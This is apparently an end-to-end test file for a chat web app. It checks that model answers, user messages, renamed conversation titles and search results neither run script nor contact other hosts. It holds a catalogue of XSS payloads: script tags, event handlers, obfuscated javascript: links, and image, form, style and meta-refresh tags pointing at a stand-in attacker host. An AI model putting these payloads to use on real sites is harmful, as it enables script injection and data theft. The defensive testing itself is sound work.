import type { Page } from 'playwright-core'
import { expect, inject, test } from 'vitest'
import { ask, lastAnswer, settled } from './support/chat.ts'
import { providerAt } from './support/provider.ts'
import { useVisits } from './support/visits.ts'

const app = inject('app')
const provider = providerAt(app.providerUrl)
const visits = useVisits(() => app.url)

/** Everything that has got script or requests out of chat messages elsewhere. */
const hostile = `A harmless beginning.

<script>window.attacked = 'script'</script>
<img src=x onerror="window.attacked = 'onerror'">
<svg onload="window.attacked = 'svg'"><a xlink:href="javascript:window.attacked='xlink'">x</a></svg>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.attacked='srcdoc'</script>"></iframe>
<a href="javascript:window.attacked='anchor'">raw anchor</a>
<style>@import url(https://evil.example/style.css);</style>
<form action="https://evil.example/form"><button>raw button</button></form>
<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">

[plain](javascript:window.attacked='plain') [mixed case](JaVaScRiPt:window.attacked='case')
[with a tab](java&#x09;script:window.attacked='tab') [entity](&#106;avascript:window.attacked='entity')
[data](data:text/html,<script>window.attacked='data'</script>) [vbscript](vbscript:window.attacked)
[quote](https://safe.example/" onmouseover="window.attacked='quote')
<javascript:window.attacked='auto'>

![pixel](https://evil.example/pixel.png?secret=1) ![local](/api/v1/auth/sign-out)
[![nested](https://evil.example/nested.png)](javascript:window.attacked='nested')
![reference][r]

[r]: https://evil.example/reference.png

| a | b |
|---|---|
| <img src=x onerror=window.attacked=1> | ![cell](https://evil.example/cell.png) |

\`\`\`html
<script>window.attacked = 'fence'</script>
\`\`\`

$\\href{javascript:window.attacked='katex'}{x}$ $$\\includegraphics{https://evil.example/katex.png}$$

A harmless end.`

declare global {
  interface Window {
    attacked?: unknown
  }
}

test('runs nothing and requests nothing that an answer asks for', async () => {
  const page = await visits.ownerPage()
  // Slowly, so that every prefix is drawn too.
  await provider.enqueue({ text: hostile, rate: 150 }, { includes: 'Attack me' })
  const answer = await ask(page, 'Attack me')
  await answer.getByText('A harmless end.').waitFor()
  await expectHarmless(page)

  await page.reload()
  await settled(page)
  await expectHarmless(page)
  for (const link of await lastAnswer(page).getByRole('link').all()) {
    await link.dispatchEvent('mouseover')
    await link.focus()
  }
  await expectHarmless(page)
})

test('runs nothing that a person writes, names a conversation or searches for', async () => {
  const page = await visits.ownerPage()
  const attack = `A trap <img src=x onerror="window.attacked='person'"> <script>window.attacked=1</script>`
  await ask(page, attack)
  await page.getByRole('button', { name: 'Conversation actions' }).click()
  await page.getByRole('menuitem', { name: 'Rename' }).click()
  await page.getByRole('dialog').getByRole('textbox').fill(attack)
  await page
    .getByRole('dialog')
    .getByRole('button', { name: /Rename|Save/ })
    .click()
  await page.getByRole('heading', { name: attack }).waitFor()
  await page.goto('/search')
  await page.getByRole('searchbox').fill('trap')
  await page.getByRole('list', { name: 'Results' }).getByRole('link').first().waitFor()
  expect(await page.evaluate(() => window.attacked)).toBeUndefined()
})

/** Requests to other addresses fail every test by themselves. */
async function expectHarmless(page: Page): Promise<void> {
  expect(await page.evaluate(() => window.attacked)).toBeUndefined()
  const answer = lastAnswer(page)
  const dangerous = 'script, iframe, form, style, base, meta, img, object, embed, svg a, [onerror], [onload]'
  expect(await answer.locator(dangerous).count()).toBe(0)
  const targets = await answer
    .getByRole('link')
    .evaluateAll((links) => links.map((link) => link.getAttribute('href')))
  expect(targets.filter((target) => !/^https?:\/\//.test(target ?? ''))).toEqual([])
}
